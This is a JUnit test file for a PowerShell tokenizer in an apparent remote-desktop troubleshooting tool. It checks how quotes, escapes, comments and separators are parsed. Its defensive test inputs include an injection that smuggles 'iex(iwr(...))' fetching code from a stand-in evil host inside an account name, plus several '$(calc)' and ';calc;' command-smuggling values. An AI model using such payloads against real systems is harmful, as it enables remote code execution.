package io.rdpdoctor.knowledge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.rdpdoctor.knowledge.PowerShellTokens.Kind;
import io.rdpdoctor.knowledge.PowerShellTokens.Token;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The contract test's tokenizer, on the PowerShell it must get right. */
class PowerShellTokensTest {

    private static List<String> kinds(String s) {
        return PowerShellTokens.tokenize(s).stream().map(t -> t.kind() + ":" + t.value()).toList();
    }

    @Test
    void aCommandLineIsWordsStringsAndSeparators() {
        assertThat(kinds("Unlock-ADAccount -Identity 'jdoe'; Get-ADUser jdoe | Format-List"))
                .containsExactly("WORD:Unlock-ADAccount", "WORD:-Identity", "SQ_STRING:jdoe", "SEPARATOR:;", "WORD:Get-ADUser",
                        "WORD:jdoe", "SEPARATOR:|", "WORD:Format-List");
    }

    @Test
    void singleQuotedStringsDoubleTheirQuotesIncludingTypographicOnes() {
        assertThat(PowerShellTokens.tokenize("'it''s' '‘‘a’’b‛‛'")).containsExactly(
                new Token(Kind.SQ_STRING, "it's", false), new Token(Kind.SQ_STRING, "‘a’b‛", false));
        // a typographic quote ends a single-quoted string, as in PowerShell
        assertThat(kinds("'x’;calc;’'")).containsExactly("SQ_STRING:x", "SEPARATOR:;", "WORD:calc", "SEPARATOR:;", "SQ_STRING:");
    }

    @Test
    void theInjectionOfTheAdversarialReviewIsSeenAsSeveralStatements() {
        List<Token> t = PowerShellTokens.tokenize("Unlock-ADAccount -Identity 'x';iex(iwr('http://evil.example/p'));'0xC0000234'");
        assertThat(t).filteredOn(x -> x.kind() == Kind.SEPARATOR).hasSize(2);
        assertThat(t).extracting(Token::value).contains("iex", "iwr");
    }

    @Test
    void doubleQuotedStringsKnowBacktickEscapesAndWhetherTheyExpand() {
        Token literal = PowerShellTokens.tokenize("\"a`$(calc)`\"b\"\"c\"").get(0);
        assertThat(literal).isEqualTo(new Token(Kind.DQ_STRING, "a$(calc)\"b\"c", false));
        assertThat(PowerShellTokens.tokenize("\"a$(calc)b\"").get(0).expands()).isTrue();
        assertThat(PowerShellTokens.tokenize("\"ProcessId=$pid\"").get(0).expands()).isTrue();
        assertThat(PowerShellTokens.tokenize("\"cost: $ 5\"").get(0).expands()).isFalse();
        assertThat(PowerShellTokens.tokenize("“x”").get(0)).isEqualTo(new Token(Kind.DQ_STRING, "x", false));
    }

    @Test
    void commentsStartOnlyAtATokenAndLineBreaksSeparate() {
        assertThat(kinds("Get-Item C:\\a#b # the rest; calc")).containsExactly("WORD:Get-Item", "WORD:C:\\a#b", "COMMENT: the rest; calc");
        assertThat(kinds("a <# x; y #> b\nc")).containsExactly("WORD:a", "COMMENT: x; y ", "WORD:b", "SEPARATOR:\\n", "WORD:c");
    }

    @Test
    void variablesSubexpressionsBlocksAndBacktickedWords() {
        assertThat(kinds("$c = Get-Item Cert:\\LocalMachine\\My\\AB; @{a=[byte[]]$u.x} $(calc) ${env:x} a`;b"))
                .containsExactly("VARIABLE:$c", "WORD:=", "WORD:Get-Item", "WORD:Cert:\\LocalMachine\\My\\AB", "SEPARATOR:;",
                        "OPERATOR:@{", "WORD:a=[byte[]]", "VARIABLE:$u", "WORD:.x", "OPERATOR:}", "OPERATOR:$(", "WORD:calc",
                        "OPERATOR:)", "VARIABLE:${env:x}", "WORD:a;b");
    }

    @Test
    void unterminatedStringsAndHereStringsAreRefused() {
        assertThatThrownBy(() -> PowerShellTokens.tokenize("'abc")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> PowerShellTokens.tokenize("\"abc")).isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> PowerShellTokens.tokenize("@'\nx\n'@")).hasMessageContaining("here-string");
    }
}
